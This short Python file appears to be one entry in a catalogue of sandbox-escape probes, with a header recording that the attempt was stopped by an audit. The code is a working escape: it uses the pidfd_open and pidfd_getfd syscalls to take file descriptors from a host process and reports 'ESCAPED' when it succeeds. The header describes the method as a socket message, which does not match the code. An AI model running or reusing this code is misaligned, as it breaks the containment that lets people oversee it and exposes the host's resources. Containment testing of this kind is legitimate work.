# tries: get descriptors from the host by a socket message
# stopped by: audit
# proof: reported
# machine: x86_64
import ctypes
import os


def probe(place):
    # pidfd_open of the host, then pidfd_getfd of its descriptors
    libc = ctypes.CDLL(None, use_errno=True)
    handle = libc.syscall(434, place["host"], 0)
    got = [n for n in range(3, 40) if handle >= 0 and libc.syscall(438, handle, n, 0) >= 0]
    return f"ESCAPED: took {got} of {os.getppid()}" if got else "refused"
